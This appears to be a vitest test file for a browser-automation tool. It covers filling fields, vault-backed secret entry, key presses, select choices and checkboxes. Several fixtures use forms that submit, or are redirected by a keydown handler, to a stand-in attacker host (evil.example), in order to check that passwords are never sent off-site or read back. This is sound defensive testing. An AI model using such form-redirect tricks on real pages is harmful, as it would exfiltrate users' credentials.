import type { PageAct, SecretPart } from '@writ/dsl/contract'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { TestPages } from '../testing/open-pages.ts'
import { target } from '../testing/target.ts'

let pages: TestPages
beforeAll(async () => {
  pages = await TestPages.start()
})
afterAll(() => pages.stop())

const click = (name: string, role = 'button'): PageAct => ({ verb: 'click', target: target(role, name) })
const fill = (name: string, text: string): PageAct => ({ verb: 'fill', target: target('field', name), text })
const secret = (name: string, part: SecretPart): PageAct => ({
  verb: 'fill-secret',
  target: target('field', name),
  part,
  text: 'hunter2'
})

const LOG = '<script>globalThis.log = []; const note = (e) => log.push(e.type)</script>'

describe('a field', () => {
  const kinds: readonly (readonly [string, string, string])[] = [
    ['text', '<input aria-label=F value=old>', 'new'],
    ['textarea', '<textarea aria-label=F></textarea>', 'two\nlines'],
    ['date', '<input type=date aria-label=F>', '2026-03-01'],
    ['time', '<input type=time aria-label=F>', '12:30'],
    ['color', '<input type=color aria-label=F>', '#AABBCC'],
    ['number', '<input type=number step=any aria-label=F>', '12.50'],
    ['password', '<input type=password aria-label=F>', 'x'],
    ['editor', '<div contenteditable aria-label=F>old <b>text</b></div>', 'new text'],
    ['role textbox editor', '<div contenteditable role=textbox aria-label=F><p>old</p></div>', 'new']
  ]
  test.each(kinds)('is filled: %s', async (_kind, html, text) => {
    const { act, page } = await pages.open(html)
    expect(await act(fill('F', text))).toEqual({ kind: 'done' })
    const now = await page.evaluate(
      "(document.querySelector('[aria-label=F]').value ?? document.querySelector('[aria-label=F]').innerText).trim()"
    )
    expect(now).toBe(text.startsWith('#') ? text.toLowerCase() : text)
  })

  test('says so to frameworks that control it', async () => {
    // As React does it: the element's own setter remembers the value, and an input event with an unchanged value is dropped.
    const { act, page } = await pages.open(`<input id=i aria-label=F><script>
      const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); let known = ''; globalThis.state = ''
      Object.defineProperty(i, 'value', { get() { return get.call(this) }, set(v) { known = v; set.call(this, v) } })
      i.addEventListener('input', () => { const now = get.call(i); if (now !== known) { known = now; state = now } set.call(i, state) })</script>`)
    expect(await act(fill('F', 'kept'))).toEqual({ kind: 'done' })
    expect(await page.evaluate('state')).toBe('kept')
  })

  const refusals: readonly (readonly [string, string, string])[] = [
    ['readonly', '<input readonly aria-label=F>', 'target/not-editable'],
    ['disabled', '<input disabled aria-label=F>', 'target/not-editable'],
    ['a select', '<select aria-label=F><option>x</select>', 'target/not-editable'],
    ['a file', '<input type=file aria-label=F>', 'target/not-editable'],
    ['reset by its page', '<input aria-label=F oninput="this.value=1">', 'page/rejected-value'],
    ['too short', '<input maxlength=2 aria-label=F>', 'page/rejected-value'],
    ['of another kind', '<input type=date aria-label=F>', 'page/rejected-value'],
    [
      'prevented',
      '<input aria-label=F onbeforeinput="return false" id=i><script>i.addEventListener("beforeinput", (e) => e.preventDefault())</script>',
      'page/rejected-value'
    ]
  ]
  test.each(refusals)('refuses when it is %s', async (_what, html, code) => {
    const { act } = await pages.open(html)
    expect(await act(fill('F', 'text'), { settleMs: 50 })).toMatchObject({ kind: 'refused', refusal: { code } })
  })

  test('is cleared', async () => {
    const { act, page } = await pages.open('<input id=i value=old aria-label=F>')
    expect(await act({ verb: 'clear', target: target('field', 'F') })).toEqual({ kind: 'done' })
    expect(await page.evaluate("document.querySelector('#i').value")).toBe('')
  })

  test('is typed into where the page takes each key out again and shows it elsewhere', async () => {
    const { act, page } = await pages.open(
      `<input aria-label=Command><p></p><script>document.querySelector('input').addEventListener('keydown', (e) => {
        document.querySelector('p').append(e.key); e.target.value = '' })</script>`
    )
    const typing: PageAct = { verb: 'type', target: target('textbox', 'Command'), text: 'ls -a' }
    expect(await act(typing, { class: 'input' })).toEqual({ kind: 'done' })
    expect(await page.evaluate('document.querySelector("p").textContent')).toBe('ls -a')
  })

  test('is typed into key by key, at the end', async () => {
    const { act, page } = await pages.open(`${LOG}<input id=i value=a aria-label=F><script>
      for (const type of ['keydown','keypress','beforeinput','input','keyup','change']) i.addEventListener(type, note)</script>`)
    expect(await act({ verb: 'type', target: target('field', 'F'), text: 'b' })).toEqual({ kind: 'done' })
    expect(await page.evaluate("[document.querySelector('#i').value, log.join()]")).toEqual([
      'ab',
      'keydown,keypress,beforeinput,input,keyup,change'
    ])
  })
})

describe('a secret', () => {
  const fits: readonly (readonly [string, SecretPart, boolean])[] = [
    ['<input type=password aria-label=F>', 'password', true],
    ['<input type=password autocomplete=new-password aria-label=F>', 'password', true],
    ['<input type=password autocomplete=one-time-code aria-label=F>', 'password', false],
    ['<input type=password autocomplete=cc-csc aria-label=F>', 'password', false],
    ['<input type=password name=cardNumber aria-label=F>', 'password', false],
    ['<input aria-label=F>', 'password', false],
    ['<textarea aria-label=F></textarea>', 'password', false],
    ['<input type=email aria-label=F>', 'username', true],
    ['<input name=user_name aria-label=F>', 'username', true],
    ['<input placeholder=用户名 aria-label=F>', 'username', true],
    ['<input autocomplete="section-a username webauthn" aria-label=F>', 'username', true],
    ['<form><input aria-label=F><input type=password></form>', 'username', true],
    ['<form><input aria-label=F><input type=password><input type=password></form>', 'username', false],
    ['<form><input aria-label=F name=comment></form>', 'username', false],
    ['<input type=email autocomplete=one-time-code aria-label=F>', 'username', false],
    ['<form><input type=search aria-label=F><input type=password></form>', 'username', false],
    ['<div contenteditable aria-label=F></div>', 'username', false],
    ['<input type=password aria-label=F>', 'username', false],
    ['<input inputmode=numeric autocomplete=one-time-code aria-label=F>', 'totp', true],
    ['<input name=otpCode aria-label=F>', 'totp', true],
    ['<input aria-label=F>', 'totp', false],
    ['<input autocomplete=username name=code aria-label=F>', 'totp', false],
    ['<input autocomplete="billing cc-number" aria-label=F>', 'card_number', true],
    ['<input name=card-number aria-label=F>', 'card_number', true],
    ['<input autocomplete=cc-csc name=card-number aria-label=F>', 'card_number', false],
    ['<input autocomplete=cc-exp aria-label=F>', 'card_expiry', true],
    ['<input type=password name=cvv aria-label=F>', 'card_code', true],
    ['<input autocomplete=cc-name aria-label=F>', 'card_name', true],
    ['<input name=iban aria-label=F>', 'iban', true],
    ['<input aria-label=F>', 'iban', false]
  ]
  test.each(fits)('%s for %s: %s', async (html, part, fit) => {
    const { act } = await pages.open(html)
    const outcome = await act(secret('F', part))
    expect(outcome).toEqual(
      fit
        ? { kind: 'done' }
        : expect.objectContaining({ refusal: { code: 'vault/wrong-field', message: expect.any(String) } })
    )
  })

  test.each([
    ['its own site', 'action=/in', true],
    ['script of its page', 'action="javascript:void 0"', true],
    ['a dialog', 'method=dialog action=https://evil.example/', true],
    ['another site', 'action=https://evil.example/', false],
    ['another site, by its button', 'action=/in data-button=https://evil.example/', false],
    ['a mail program', 'action=mailto:x@evil.example', false]
  ])('in a form that sends to %s', async (_where, attributes, fit) => {
    const [, to] = /data-button=(\S+)/.exec(attributes) ?? []
    const { act } = await pages.open(
      `<form ${attributes}><input type=password aria-label=F><button${to ? ` formaction=${to}` : ''}>Go</button></form>`
    )
    const no = expect.objectContaining({ refusal: expect.objectContaining({ code: 'vault/leaves-site' }) })
    expect(await act(secret('F', 'password'))).toEqual(fit ? { kind: 'done' } : no)
  })

  test('may go into a form of the site that the plan signs in for', async () => {
    const { act } = await pages.open('<form action=https://shop.example/><input type=password aria-label=F></form>')
    expect(await act({ ...secret('F', 'password'), home: ['https://shop.example'] } as PageAct)).toEqual({
      kind: 'done'
    })
  })

  test('is nowhere in what is reported', async () => {
    const { batch, lookAt } = await pages.open(
      '<form method=post><input type=password aria-label=F oninput="this.value+=1"><button>Go</button></form>'
    )
    const said = [await batch([secret('F', 'password')]), await lookAt(click('Go'), 'submit')]
    expect(JSON.stringify(said)).toContain('page/rejected-value')
    expect(JSON.stringify(said)).not.toContain('hunter2')
  })

  test.each([
    ['type=password', ''],
    ['autocomplete="billing cc-number"', 'a card’s number, by its page’s word'],
    ['autocomplete=CC-CSC', 'a card’s code'],
    ['autocomplete=one-time-code', 'a code to sign in with'],
    ['autocomplete=current-password', 'a password that is shown']
  ])('is never read back, and what the page says is one alike: %s %s', async (how) => {
    const { batch } = await pages.open(`<input ${how} aria-label=F value=hunter2><p>x</p>`)
    for (const page of [
      { verb: 'read-value', target: target('field', 'F') },
      { verb: 'read-text', target: target('field', 'F') },
      { verb: 'read-attribute', attribute: 'value', target: target('field', 'F') },
      { verb: 'copy', target: target('field', 'F') }
    ] as const) {
      const [first] = await batch([page])
      expect(first?.outcome).toMatchObject({ kind: 'refused', refusal: { code: 'target/secret-field' } })
    }
    const [label] = await batch([{ verb: 'read-text', target: target('page') }])
    expect(JSON.stringify(label)).not.toContain('hunter2')
  })
})

describe('a key', () => {
  const press = (key: string, name?: string): PageAct =>
    name === undefined ? { verb: 'press', key } : { verb: 'press', key, target: target('field', name) }

  test('Enter submits by the default button, whose handlers run', async () => {
    const { act, requests, page } = await pages.open(
      '<form method=post action=/s><input aria-label=F name=f value=1><button name=b value=2 onclick="sessionStorage.ran=1">Go</button></form>'
    )
    expect(await act(press('Enter', 'F'), { class: 'submit' })).toMatchObject({ kind: 'done', note: 'leaving' })
    expect(requests).toEqual(['POST /s f=1&b=2'])
    expect(await page.evaluate('sessionStorage.ran')).toBe('1')
  })

  test('Enter in a form that posts is a submit', async () => {
    const { act, requests } = await pages.open('<form method=post action=/s><input aria-label=F></form>')
    expect(await act(press('Enter', 'F'))).toMatchObject({ kind: 'raised', facts: { effect: 'submit' } })
    expect(requests).toEqual([])
  })

  test('a keydown handler that redirects the form is caught', async () => {
    const { act, requests } = await pages.open(
      `<form method=post action=/s><input aria-label=F onkeydown="this.form.setAttribute('action', '//evil.example')"></form>`
    )
    expect(await act(press('Enter', 'F'), { class: 'submit' })).toEqual({ kind: 'unknown' })
    expect(requests).toEqual([])
  })

  test('Escape, Tab and held keys reach what has the focus', async () => {
    const { batch, page } = await pages.open(`<input id=i autofocus><button id=b>x</button><script>
      globalThis.keys = []; i.focus(); addEventListener('keydown', (e) => keys.push([e.key, e.code, e.keyCode, e.ctrlKey].join()))</script>`)
    await batch([press('escape'), press('Control+k'), press('Tab')])
    expect(await page.evaluate('[...keys, document.activeElement.id]')).toEqual([
      'Escape,Escape,27,false',
      'k,KeyK,75,true',
      'Tab,Tab,9,false',
      'b'
    ])
  })

  test('Space presses a button, Backspace takes a letter', async () => {
    const { batch, page } = await pages.open(
      '<button onclick="globalThis.hit=1">Go</button><input id=i value=ab aria-label=F>'
    )
    await batch([{ verb: 'press', key: 'Space', target: target('button', 'Go') }, press('Backspace', 'F')])
    expect(await page.evaluate("[hit, document.querySelector('#i').value]")).toEqual([1, 'a'])
  })
})

describe('a choice', () => {
  const choose = (...options: string[]): PageAct => ({ verb: 'choose', target: target('combobox', 'C'), options })
  const SELECT =
    '<select aria-label=C id=s><option>One<option disabled>Two<option> Three </option><option>Same<option>Same</select>'

  test('is made in a select by its whole label', async () => {
    const { act, page } = await pages.open(
      `${SELECT}<script>s.onchange = () => { globalThis.changed = s.value }</script>`
    )
    expect(await act(choose('three'))).toEqual({ kind: 'done' })
    expect(await page.evaluate('changed')).toBe('Three')
  })

  test.each(['Two', 'Same', 'Thr', 'None'])('refuses %s', async (label) => {
    const { act } = await pages.open(SELECT)
    expect(await act(choose(label), { settleMs: 40 })).toMatchObject({ refusal: { code: 'target/no-option' } })
  })

  test('of several sets exactly those', async () => {
    const { act, page } = await pages.open(
      '<select multiple aria-label=C><option selected>A<option>B<option>C</select>'
    )
    expect(await act({ verb: 'choose', target: target('listbox', 'C'), options: ['B', 'C'] })).toEqual({ kind: 'done' })
    expect(await page.evaluate("[...document.querySelector('select').selectedOptions].map((o) => o.label)")).toEqual([
      'B',
      'C'
    ])
  })

  test("is made in a list of the page's own that opens", async () => {
    const { act, page } =
      await pages.open(`<div role=combobox tabindex=0 aria-label=C aria-expanded=false aria-controls=l id=c>None</div>
      <ul role=listbox id=l hidden><li role=option>One</li><li role=option>Two</li></ul><script>
      c.onclick = () => { c.setAttribute('aria-expanded', 'true'); setTimeout(() => { l.hidden = false }, 50) }
      l.onclick = (e) => { c.textContent = e.target.textContent; l.hidden = true }</script>`)
    expect(await act(choose('Two'))).toEqual({ kind: 'done' })
    expect(await page.evaluate("document.querySelector('#c').textContent")).toBe('Two')
  })
})

describe('a box', () => {
  const check = (role: string, verb: 'check' | 'uncheck' = 'check'): PageAct => ({ verb, target: target(role, 'B') })

  const boxes: readonly (readonly [string, string, string])[] = [
    ['native', '<label><input type=checkbox>B</label>', 'checkbox'],
    ['radio', '<label><input type=radio>B</label>', 'radio'],
    [
      'switch',
      '<div role=switch aria-checked=false aria-label=B tabindex=0 style="width:9px;height:9px" onclick="this.setAttribute(`aria-checked`, `true`)"></div>',
      'switch'
    ],
    [
      'drawn by its label',
      '<style>input { position:absolute; opacity:0; width:1px; height:1px; clip-path:inset(50%) }</style><label><input type=checkbox><i>B</i></label>',
      'checkbox'
    ],
    [
      'without a box of its own',
      '<style>input { appearance:none; position:absolute; width:0; height:0; margin:0; border:0 }</style><label><input type=checkbox>B</label>',
      'checkbox'
    ]
  ]
  test.each(boxes)('is checked: %s', async (_kind, html, role) => {
    const { act, page } = await pages.open(html)
    expect(await act(check(role))).toEqual({ kind: 'done' })
    expect(
      await page.evaluate(
        "(() => { const b = document.querySelector('input,[role]'); return b.checked ?? b.ariaChecked === 'true' })()"
      )
    ).toBe(true)
  })

  test('already so is done without a click', async () => {
    const { act, page } = await pages.open('<label><input type=checkbox checked onclick="globalThis.hit=1">B</label>')
    expect(await act(check('checkbox'))).toEqual({ kind: 'done' })
    expect(await page.evaluate('globalThis.hit')).toBeUndefined()
  })

  const refusals: readonly (readonly [string, string, string, 'check' | 'uncheck', string])[] = [
    ['a button', '<button>B</button>', 'button', 'check', 'target/not-checkable'],
    [
      'a radio to be unchecked',
      '<label><input type=radio checked>B</label>',
      'radio',
      'uncheck',
      'target/not-checkable'
    ],
    [
      'one its page holds',
      '<label><input type=checkbox onclick="return false">B</label>',
      'checkbox',
      'check',
      'page/rejected-value'
    ]
  ]
  test.each(refusals)('refuses %s', async (_what, html, role, verb, code) => {
    const { act } = await pages.open(html)
    expect(await act(check(role, verb), { settleMs: 40 })).toMatchObject({ refusal: { code } })
  })
})
